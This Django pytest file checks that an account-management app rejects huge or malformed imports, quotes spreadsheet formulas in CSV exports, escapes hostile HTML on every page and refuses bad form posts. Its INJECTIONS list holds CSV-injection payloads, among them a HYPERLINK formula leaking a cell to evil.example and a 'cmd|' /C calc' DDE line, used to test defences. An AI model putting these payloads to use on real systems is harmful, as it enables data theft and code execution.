"""Bad input: big and broken imports, CSV injection, HTML in every text field, bad form posts.

Each case gets a clear 4xx (or the form again with field errors), nothing partial is written, and
nothing the user typed is run: not by a spreadsheet (CSV exports quote formula triggers), not by the
browser (every page escapes it). Big import bodies are generated into temporary files and streamed
to the view, as a real upload is, so the test process never holds them in memory.
"""

import csv
import datetime as dt
import io
import itertools
import tempfile
import uuid
from collections.abc import Iterable
from decimal import Decimal

import pytest
from django.conf import settings
from django.utils.html import escape
from rest_framework.test import APIClient

from accounts.imports import MAX_IMPORT_FILE_SIZE
from accounts.models import Transaction
from classification.models import ClassificationOverride
from kam.admin_csv import FORMULA_TRIGGERS
from relationships.models import (
    Assessment,
    CustomerNeed,
    Interaction,
    Opportunity,
    PlanAction,
    PlanObjective,
)
from tests.factories import (
    AccountFactory,
    AccountManagerFactory,
    AccountPlanFactory,
    ContactFactory,
    ExchangeRateFactory,
    InteractionFactory,
    OpportunityFactory,
    PlanActionFactory,
    PlanObjectiveFactory,
    ServiceCaseFactory,
    TransactionFactory,
)
from tests.hostile import (
    HOSTILE,
    assert_nothing_unescaped,
    hostile_fixture,  # noqa: F401 - the `hostile` fixture
)

pytestmark = pytest.mark.django_db

IMPORT_URL = "/api/v1/transactions/import/"
IMPORT_HEADER = b"account,kind,date,quantity,unit_price,currency,external_reference\r\n"
MB = 1024 * 1024


@pytest.fixture
def importer():
    manager = AccountManagerFactory()
    ExchangeRateFactory(currency="USD", valid_from=dt.date(2020, 1, 1), rate=Decimal("0.9"))
    client = APIClient()
    client.force_authenticate(manager.user)
    return {"client": client, "manager": manager, "account": AccountFactory(owner=manager)}


def history_count() -> int:
    return Transaction.history.count()


def post_streamed(client: APIClient, chunks: Iterable[bytes], *, filename: str = "sales.csv"):
    """POST a multipart upload whose file part is `chunks`, streamed from a temporary file.

    The test client would build the whole body in memory; here the body is written to disk once
    and handed to the WSGI handler as its input stream, as a server would.
    """
    boundary = uuid.uuid4().hex
    with tempfile.TemporaryFile() as body:
        body.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="source_system"\r\n\r\n'
            f'erp\r\n--{boundary}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="{filename}"\r\nContent-Type: text/csv\r\n\r\n'.encode()
        )
        for chunk in chunks:
            body.write(chunk)
        body.write(f"\r\n--{boundary}--\r\n".encode())
        size = body.tell()
        body.seek(0)
        response = client.generic(
            "POST",
            IMPORT_URL,
            content_type=f"multipart/form-data; boundary={boundary}",
            **{"CONTENT_LENGTH": str(size), "wsgi.input": body},
        )
    response.body_size = size
    return response


def sale_rows(account_id: int, count: int, *, batch: int = 10000):
    """`count` valid CSV rows of 56 to 60 bytes, yielded in chunks of `batch` rows."""
    row = b"%d,sale,2026-03-01,10,12.5,EUR,ERP-INV-2026-%%010d\r\n" % account_id
    for first in range(0, count, batch):
        yield b"".join(row % i for i in range(first, min(first + batch, count)))


# --- 1 and 2. big and odd import bodies, and 1,000,000 rows -------------------------------------


def test_one_million_rows_the_last_bad_a_54_mb_file_is_read_to_the_end_and_writes_nothing(
    importer,
):
    """The most expensive test of the suite (about 15 s of CPU): the whole file is validated so
    that the one bad row, the last, is reported by its number; nothing is written."""
    account_id = importer["account"].pk
    before, history_before = Transaction.objects.count(), history_count()
    last = b"%d,sale,2026-03-01,10,12.5,XXX,ERP-INV-2026-last\r\n" % account_id
    chunks = itertools.chain([IMPORT_HEADER], sale_rows(account_id, 999_999), [last])

    response = post_streamed(importer["client"], chunks)

    assert response.body_size > 50 * MB
    assert response.status_code == 400, response.content[:500]
    assert response.json() == {
        "detail": "The import was rejected (1 error); nothing was written.",
        "errors": [
            {
                "row": 1_000_001,
                "field": "currency",
                "message": "No exchange rate for XXX on or before 2026-03-01.",
            }
        ],
        "error_count": 1,
        "total_rows": 1_000_000,
    }
    assert Transaction.objects.count() == before
    assert history_count() == history_before


def file_error(response) -> str:
    """The one file-level message of a rejected import."""
    assert response.status_code == 400, response.content[:500]
    body = response.json()
    assert body["error_count"] == 1, body
    (error,) = body["errors"]
    assert (error["row"], error["field"]) == (None, "file"), error
    return error["message"]


def test_fifty_mb_of_binary_garbage_is_one_encoding_error(importer):
    garbage = (bytes(range(128, 256)) * 8192 for _ in range(50))  # 50 x 1 MB, none of it UTF-8

    response = post_streamed(importer["client"], garbage)

    assert file_error(response) == (
        "The file is not UTF-8 text (byte 0x80 at position 0). "
        "Save it as CSV UTF-8 and send it again."
    )
    assert not Transaction.objects.exists()


def test_fifty_mb_without_a_line_break_is_refused_after_the_first_mb(importer):
    response = post_streamed(importer["client"], (b"a" * MB for _ in range(50)))

    assert file_error(response) == "A line is longer than 1048576 characters; is this a CSV file?"
    assert not Transaction.objects.exists()


def test_file_over_the_limit_is_413_before_the_body_is_read(importer):
    class Unreadable:
        def read(self, *args):
            raise AssertionError("the body was read")

        readline = read

    response = importer["client"].generic(
        "POST",
        IMPORT_URL,
        content_type="multipart/form-data; boundary=x",
        **{"CONTENT_LENGTH": str(MAX_IMPORT_FILE_SIZE + MB), "wsgi.input": Unreadable()},
    )

    assert response.status_code == 413
    assert response.json() == {
        "detail": f"An import file may be at most {MAX_IMPORT_FILE_SIZE} bytes."
    }


def test_json_body_of_200_001_rows_is_413_with_advice(importer):
    """JSON is parsed whole, so it is capped at DATA_UPLOAD_MAX_MEMORY_SIZE (no row limit)."""
    row = (
        b'{"account":"%d","kind":"sale","date":"2026-03-01","quantity":"1",'
        b'"unit_price":"1","currency":"EUR","external_reference":"J-%%d"}' % importer["account"].pk
    )
    with tempfile.TemporaryFile() as body:
        body.write(b"[" + row % 0)
        for i in range(1, 200_001):
            body.write(b"," + row % i)
        body.write(b"]")
        size = body.tell()
        body.seek(0)
        response = importer["client"].generic(
            "POST",
            IMPORT_URL,
            content_type="application/json",
            **{"CONTENT_LENGTH": str(size), "wsgi.input": body},
        )

    assert response.status_code == 413
    assert response.json() == {
        "detail": f"A JSON import may be at most {settings.DATA_UPLOAD_MAX_MEMORY_SIZE} bytes; "
        "send larger imports as a CSV file (multipart/form-data, field 'file')."
    }
    assert not Transaction.objects.exists()


def test_nul_bytes_are_refused_in_text_and_numbers(importer):
    account_id = importer["account"].pk
    content = IMPORT_HEADER + (b"%d,sale,2026-03-01,1\x000,12.5,EUR,R\x00-1\r\n" % account_id)

    response = post_streamed(importer["client"], [content])

    assert response.status_code == 400
    assert response.json()["errors"] == [
        {"row": 2, "field": "quantity", "message": "'1\x000' is not a number."},
        {
            "row": 2,
            "field": "external_reference",
            "message": "Text may not contain NUL characters.",
        },
    ]
    assert not Transaction.objects.exists()


def test_a_file_of_nul_bytes_is_one_clear_error(importer):
    response = post_streamed(importer["client"], [b"\x00" * 100_000])

    assert file_error(response) == (
        "The header contains NUL bytes: the file is not UTF-8 text (UTF-16?). Save it as CSV "
        "UTF-8 and send it again."
    )
    assert not Transaction.objects.exists()


def test_huge_cells_are_quoted_short_in_the_report(importer):
    """A quoted cell may be 128 KB (the csv module's limit); the report stays small."""
    account_id = importer["account"].pk
    huge = b"x" * 131_000
    rows = [b"%d,sale,2026-03-01,%s,1,EUR,R-%d,\r\n" % (account_id, huge, i) for i in range(20)]
    header = b"account,kind,date,quantity,unit_price,currency,external_reference,%s\r\n" % (
        b"c" * 1000
    )

    response = post_streamed(importer["client"], [header, *rows])

    assert response.status_code == 400
    assert len(response.content) < 20_000
    errors = response.json()["errors"]
    assert errors[0] == {
        "row": None,
        "field": "c" * 59 + "…",
        "message": "Unknown column '" + "c" * 283 + "…",
    }
    assert errors[1] == {"row": 2, "field": "quantity", "message": "'" + "x" * 298 + "…"}
    assert len(errors) == 21
    assert not Transaction.objects.exists()


def test_utf16_file_is_one_encoding_error(importer):
    text = IMPORT_HEADER.decode() + f"{importer['account'].pk},sale,2026-03-01,1,1,EUR,R-1\r\n"

    response = post_streamed(importer["client"], [text.encode("utf-16")])

    assert file_error(response) == (
        "The file is not UTF-8 text (byte 0xff at position 0). "
        "Save it as CSV UTF-8 and send it again."
    )


def test_empty_file_is_an_error_but_a_header_only_file_is_an_empty_import(importer):
    """A nightly export with nothing new sends just the header: that is not an error."""
    empty = post_streamed(importer["client"], [b""])
    header_only = post_streamed(importer["client"], [IMPORT_HEADER])

    assert file_error(empty) == "The file is empty: expected a header row and data rows."
    assert header_only.status_code == 201
    assert header_only.json() == {
        "source_system": "erp",
        "total_rows": 0,
        "created": 0,
        "already_present": 0,
        "already_present_rows": [],
    }
    assert not Transaction.objects.exists()


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({"account": "1"}, "Expected a JSON array of row objects."),
        ("rows", "Expected a JSON array of row objects."),
        (None, "Expected a JSON array of row objects."),
        ([["1", "sale"]], "Row 1 is not a JSON object."),
    ],
)
def test_json_body_that_is_not_a_list_of_objects(importer, body, message):
    response = importer["client"].post(IMPORT_URL, body, format="json")

    assert response.status_code == 400
    assert response.json()["errors"][0]["message"] == message
    assert not Transaction.objects.exists()


def test_json_that_does_not_parse(importer):
    response = importer["client"].generic(
        "POST", IMPORT_URL, b'[{"account": ', content_type="application/json"
    )

    assert response.status_code == 400
    assert response.json()["errors"] == [
        {
            "row": None,
            "field": "non_field_errors",
            "message": "JSON parse error - Expecting value: line 1 column 14 (char 13)",
        }
    ]


# --- 3. CSV injection: stored as typed, quoted in every CSV export ------------------------------
# (The import refuses such text instead, with a message the sender can act on:
# tests/api/test_import.py::test_csv_injection_is_rejected_in_every_text_column.)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), row


@pytest.mark.parametrize("text", INJECTIONS)
def test_portfolio_csv_quotes_formulas_that_are_stored_as_typed(client, text):
    manager = AccountManagerFactory(user__first_name=text, user__last_name="")
    account = AccountFactory(customer__name=text, owner=manager)
    client.force_login(manager.user)

    rows = csv_cells(client.get("/portfolio.csv"))

    assert_no_formula(rows)
    (data,) = rows[1:]
    assert data[0] == f"'{text}"
    assert data[5] == f"'{manager}"
    account.customer.refresh_from_db()
    assert account.customer.name == text  # stored as typed; only the export quotes it


def test_admin_csv_exports_quote_formulas_in_every_text_column(admin_client):
    for n, text in enumerate(INJECTIONS):
        account = AccountFactory(customer__name=text)
        exported = {
            "accounts/customer": account.customer,
            "accounts/transaction": TransactionFactory(account=account, order_reference=text),
            "relationships/interaction": InteractionFactory(account=account, summary=text),
            "relationships/opportunity": OpportunityFactory(account=account, title=text),
            "relationships/servicecase": ServiceCaseFactory(account=account, subject=text),
            "relationships/planaction": PlanActionFactory(
                objective__plan__account=account, description=text
            ),
        }
        for path, obj in exported.items():
            response = admin_client.post(
                f"/admin/{path}/", {"action": "export_as_csv", "_selected_action": [obj.pk]}
            )

            rows = csv_cells(response)

            assert_no_formula(rows)
            assert f"'{text}" in rows[1], (n, path, rows)


# --- 4. HTML and script in every text field the dashboard renders -------------------------------


def page(client, url: str, **headers) -> str:
    response = client.get(url, headers=headers)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert_nothing_unescaped(html)
    return html


ACCOUNT_PAGE_FIELDS = [
    "accounts.Customer.name",
    "accounts.Contact.name",
    "accounts.Contact.title",
    "auth.User.first_name",
    "auth.User.last_name",
    "accounts.ProductLine.name",
    "accounts.Transaction.order_reference",
    "relationships.Interaction.summary",
    "relationships.CustomerNeed.description",
    "relationships.Opportunity.title",
    "relationships.AccountPlan.strategy",
    "relationships.PlanObjective.description",
    "relationships.PlanAction.description",
    "relationships.ServiceCase.subject",
    "relationships.Assessment.comment",
    "relationships.RelationshipInvestment.description",
    "classification.ClassificationOverride.reason",
]


def test_every_page_escapes_hostile_text(client, hostile):
    texts, account = hostile["texts"], hostile["account"]
    client.force_login(hostile["manager"].user)

    html = page(client, f"/accounts/{account.pk}/")
    html += page(client, f"/accounts/{account.pk}/more/")  # the sections htmx loads after
    rendered = {label for label in texts.by_field if texts.escaped(label) in html}
    print(sorted(set(texts.by_field) - rendered))
    assert set(ACCOUNT_PAGE_FIELDS) <= rendered
    assert "{{7*7}}" in html  # shown as typed, never evaluated

    portfolio = page(client, "/")
    assert texts.escaped("accounts.Customer.name") in portfolio
    for model in ("four_s", "bensaou", "millman_wilson", "webster"):
        matrix = page(client, f"/matrices/{model}/")
        assert texts.escaped("accounts.Customer.name") in matrix
    client.force_login(hostile["lead"].user)
    team = page(client, "/team/")
    assert texts.escaped("accounts.Customer.name") in team
    assert texts.escaped("auth.User.last_name") in team


# --- 5. bad form posts: field errors or 404, never a 500, nothing written -----------------------


@pytest.fixture
def forms_world():
    """The manager's account with one of each thing to act on, and a stranger's account."""
    manager, stranger = AccountManagerFactory(), AccountManagerFactory()
    mine, theirs = AccountFactory(owner=manager), AccountFactory(owner=stranger)
    world = {"manager": manager, "mine": mine, "theirs": theirs}
    for key, account in (("", mine), ("their_", theirs)):
        plan = AccountPlanFactory(account=account)
        objective = PlanObjectiveFactory(plan=plan)
        world |= {
            f"{key}contact": ContactFactory(customer=account.customer),
            f"{key}plan": plan,
            f"{key}objective": objective,
            f"{key}action": PlanActionFactory(objective=objective),
            f"{key}opportunity": OpportunityFactory(account=account, stage="qualified"),
        }
    world["done_action"] = PlanActionFactory(
        objective=world["objective"], status="done", done_on=dt.date(2026, 1, 5)
    )
    world["won"] = OpportunityFactory(account=mine, stage="won", probability=100)
    return world


def state() -> dict:
    """Everything a dashboard form can write."""
    return {
        "interactions": Interaction.objects.count(),
        "needs": CustomerNeed.objects.count(),
        "opportunities": sorted(Opportunity.objects.values_list("pk", "stage", "probability")),
        "objectives": PlanObjective.objects.count(),
        "actions": sorted(PlanAction.objects.values_list("pk", "status", "done_on")),
        "assessments": Assessment.objects.count(),
        "overrides": ClassificationOverride.objects.count(),
        "history": [model.history.count() for model in (Opportunity, PlanAction, Assessment)],
    }


LONG = "x" * 5001
GOOD = {
    "interactions": {
        "kind": "meeting",
        "occurred_at": "2026-01-10T10:00",
        "summary": "Review",
        "sentiment": "1",
    },
    "needs": {"description": "Faster", "priority": "high", "status": "open"},
    "opportunities": {
        "title": "Plant 2",
        "value": "1000",
        "currency": "EUR",
        "stage": "identified",
        "probability": "20",
    },
    "stage": {"stage": "proposal"},
    "objectives": {"plan": "{plan}", "description": "Win plant 2", "metric": "", "target": ""},
    "actions": {"objective": "{objective}", "description": "Call", "due_on": "2026-03-01"},
    "done": {},
    "assessments": {
        "assessed_on": "2026-01-10",
        "contract_type": "annual",
        "supplier_status": "approved",
        "strategic_fit": "3",
    },
    "overrides": {"model": "four_s", "segment": "star", "reason": "Known better"},
}
URLS = {
    "interactions": "/accounts/{account}/interactions/",
    "needs": "/accounts/{account}/needs/",
    "opportunities": "/accounts/{account}/opportunities/",
    "stage": "/accounts/{account}/opportunities/{opportunity}/stage/",
    "objectives": "/accounts/{account}/objectives/",
    "actions": "/accounts/{account}/actions/",
    "done": "/accounts/{account}/actions/{action}/done/",
    "assessments": "/accounts/{account}/assessments/",
    "overrides": "/accounts/{account}/overrides/",
}
FORM_KEYS = {
    "interactions": "form",
    "needs": "need_form",
    "opportunities": "opportunity_form",
    "stage": "stage_form",
    "objectives": "objective_form",
    "actions": "action_form",
    "done": "done_form",
    "assessments": "assessment_form",
    "overrides": "override_form",
}
# (form, changes to its good data (None removes the field), URL ids, the field with the error).
# A field of None means 404: the account or the object is not the manager's.
BAD_POSTS = [
    ("interactions", {"summary": None}, {}, "summary"),
    ("interactions", {"summary": "   "}, {}, "summary"),
    ("interactions", {"summary": LONG}, {}, "summary"),
    ("interactions", {"occurred_at": "2026-13-45T25:00"}, {}, "occurred_at"),
    ("interactions", {"occurred_at": "2099-01-01T10:00"}, {}, "occurred_at"),
    ("interactions", {"kind": "telepathy"}, {}, "kind"),
    ("interactions", {"sentiment": "-9"}, {}, "sentiment"),
    ("interactions", {"contacts": "{their_contact}"}, {}, "contacts"),
    ("interactions", {}, {"account": "{theirs}"}, None),
    ("needs", {"description": None}, {}, "description"),
    ("needs", {"description": " \t "}, {}, "description"),
    ("needs", {"description": "x" * 2001}, {}, "description"),
    ("needs", {"priority": "urgent!!"}, {}, "priority"),
    ("needs", {"identified_on": "2026-02-30"}, {}, "identified_on"),
    ("needs", {}, {"account": "{theirs}"}, None),
    ("opportunities", {"title": "x" * 201}, {}, "title"),
    ("opportunities", {"value": "-5"}, {}, "value"),
    ("opportunities", {"value": "NaN"}, {}, "value"),
    ("opportunities", {"value": "1" * 30}, {}, "value"),
    ("opportunities", {"probability": "101"}, {}, "probability"),
    ("opportunities", {"probability": "-1"}, {}, "probability"),
    ("opportunities", {"currency": "EURO"}, {}, "currency"),
    ("opportunities", {"stage": "won_twice"}, {}, "stage"),
    ("opportunities", {"expected_close": "tomorrow"}, {}, "expected_close"),
    ("opportunities", {}, {"account": "{theirs}"}, None),
    ("stage", {"stage": "nope"}, {}, "stage"),
    ("stage", {"stage": None}, {}, "stage"),
    ("stage", {}, {"opportunity": "{won}"}, "stage"),
    ("stage", {}, {"opportunity": "{their_opportunity}"}, None),
    ("stage", {}, {"account": "{theirs}"}, None),
    ("objectives", {"plan": "{their_plan}"}, {}, "plan"),
    ("objectives", {"plan": "abc"}, {}, "plan"),
    ("objectives", {"description": None}, {}, "description"),
    ("objectives", {"metric": "x" * 101}, {}, "metric"),
    ("objectives", {"due_on": "0000-01-01"}, {}, "due_on"),
    ("objectives", {}, {"account": "{theirs}"}, None),
    ("actions", {"objective": "{their_objective}"}, {}, "objective"),
    ("actions", {"description": "x" * 251}, {}, "description"),
    ("actions", {"due_on": None}, {}, "due_on"),
    ("actions", {"due_on": "2026-02-30"}, {}, "due_on"),
    ("actions", {}, {"account": "{theirs}"}, None),
    ("done", {}, {"action": "{done_action}"}, "__all__"),
    ("done", {}, {"action": "{their_action}"}, None),
    ("done", {}, {"action": "999999999"}, None),
    ("assessments", {"assessed_on": "2099-01-01"}, {}, "assessed_on"),
    ("assessments", {"assessed_on": None}, {}, "assessed_on"),
    ("assessments", {"contract_type": "forever"}, {}, "contract_type"),
    ("assessments", {"strategic_fit": "6"}, {}, "strategic_fit"),
    ("assessments", {"openness": "-1"}, {}, "openness"),
    ("assessments", {"comment": LONG}, {}, "comment"),
    ("assessments", {}, {"account": "{theirs}"}, None),
    ("overrides", {"model": "bcg"}, {}, "model"),
    ("overrides", {"segment": "partnership"}, {}, "segment"),
    ("overrides", {"reason": "  "}, {}, "reason"),
    ("overrides", {"reason": "x" * 2001}, {}, "reason"),
    ("overrides", {}, {"account": "{theirs}"}, None),
]


def _ids(world: dict, value: str) -> str:
    """ "{their_plan}" -> the id of world["their_plan"]."""
    if value.startswith("{") and value.endswith("}"):
        return str(world[value[1:-1]].pk)
    return value


def post_form(client, world: dict, form: str, changes: dict, ids: dict, *, htmx: bool):
    url_ids = {"account": "{mine}", "opportunity": "{opportunity}", "action": "{action}", **ids}
    url = URLS[form].format(**{k: _ids(world, v) for k, v in url_ids.items()})
    data = {k: _ids(world, v) for k, v in GOOD[form].items()}
    for name, value in changes.items():
        if value is None:
            data.pop(name, None)
        else:
            data[name] = _ids(world, value)
    client.force_login(world["manager"].user)
    return client.post(url, data, headers={"HX-Request": "true"} if htmx else {})


def assert_refused(response, form: str, field: str | None, *, case) -> None:
    if field is None:
        assert response.status_code == 404, case
        return
    assert response.status_code == 200, case
    bound = response.context[FORM_KEYS[form]]
    assert bound.is_bound, case
    assert field in bound.errors, (case, bound.errors)
    assert escape(bound.errors[field][0]) in response.content.decode(), case  # the user sees why


def test_bad_form_posts_are_refused_and_write_nothing(client, forms_world):
    """As the page posts them (htmx): the section comes back with the field's error. One world
    for the whole table: nothing may be written, so every case starts from the same state."""
    before = state()
    for form, changes, ids, field in BAD_POSTS:
        response = post_form(client, forms_world, form, changes, ids, htmx=True)

        assert_refused(response, form, field, case=(form, changes, ids))
        assert state() == before, (form, changes, ids)


def test_bad_form_posts_without_htmx_show_the_whole_page_with_errors(client, forms_world):
    before = state()
    for form in GOOD:
        form, changes, ids, field = next(case for case in BAD_POSTS if case[0] == form)

        response = post_form(client, forms_world, form, changes, ids, htmx=False)

        assert_refused(response, form, field, case=(form, changes, ids))
        assert "<html" in response.content.decode()
        assert state() == before, (form, changes, ids)


@pytest.mark.parametrize("form", list(GOOD))
def test_good_form_posts_write(client, forms_world, form):
    """The table's good data is good: each bad case differs from a post that is written."""
    url = URLS[form].format(
        account=forms_world["mine"].pk,
        opportunity=forms_world["opportunity"].pk,
        action=forms_world["action"].pk,
    )
    data = {k: _ids(forms_world, v) for k, v in GOOD[form].items()}
    client.force_login(forms_world["manager"].user)
    before = state()

    response = client.post(url, data)

    assert response.status_code == 302
    assert state() != before


def test_htmx_partials_escape_what_was_just_typed(client, hostile):
    """A saved text comes back in the swapped section, and so does a refused one (in its form)."""
    account = hostile["account"]
    client.force_login(hostile["manager"].user)
    htmx = {"HX-Request": "true"}
    posts = [
        ("interactions", {"kind": "call", "occurred_at": "2026-01-10T10:00", "sentiment": "0"}),
        ("needs", {"priority": "high", "status": "open"}),
        ("needs", {"priority": "bogus", "status": "open"}),  # refused: the form shows it again
        ("opportunities", {"value": "-1", "currency": "EUR", "stage": "identified"}),
        ("overrides", {"model": "four_s", "segment": "partnership"}),
    ]
    text_field = {
        "interactions": "summary",
        "needs": "description",
        "opportunities": "title",
        "overrides": "reason",
    }
    for form, data in posts:
        response = client.post(
            f"/accounts/{account.pk}/{form}/",
            {**data, text_field[form]: HOSTILE, "probability": "10"},
            headers=htmx,
        )

        assert response.status_code == 200
        html = response.content.decode()
        assert "<html" not in html  # a fragment, as htmx swaps it
        assert_nothing_unescaped(html)
        assert escape(HOSTILE) in html, form
    assert Interaction.objects.get(account=account, kind="call").summary == HOSTILE  # as typed

    # The notices after a move or a "done" quote the hostile title and description.
    texts = hostile["texts"]
    title = texts.escaped("relationships.Opportunity.title")
    description = texts.escaped("relationships.PlanAction.description")
    for url, data, notice in [
        (f"opportunities/{hostile['opportunity'].pk}/stage/", {"stage": "proposal"}, title),
        (f"actions/{hostile['action'].pk}/done/", {}, f"Done: {description}"),
    ]:
        response = client.post(f"/accounts/{account.pk}/{url}", data, headers=htmx)

        assert response.status_code == 200
        html = response.content.decode()
        assert_nothing_unescaped(html)
        assert f'role="status">{notice}' in html


def test_chart_data_escapes_names_in_json_script(client, hostile):
    client.force_login(hostile["manager"].user)

    html = page(client, "/matrices/four_s/")

    script = html[html.index('<script id="matrix-data"') :]
    script = script[: script.index("</script>")]
    assert "\\u003Cscript\\u003Ealert(" in script  # the name is a chart label, "<" escaped
    assert "<script>" not in script[8:]


def test_api_returns_hostile_text_as_json_data(hostile):
    client = APIClient()
    client.force_authenticate(hostile["manager"].user)
    texts = hostile["texts"]

    response = client.get(f"/api/v1/customers/{hostile['account'].customer_id}/")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response.json()["name"] == texts.by_field["accounts.Customer.name"]
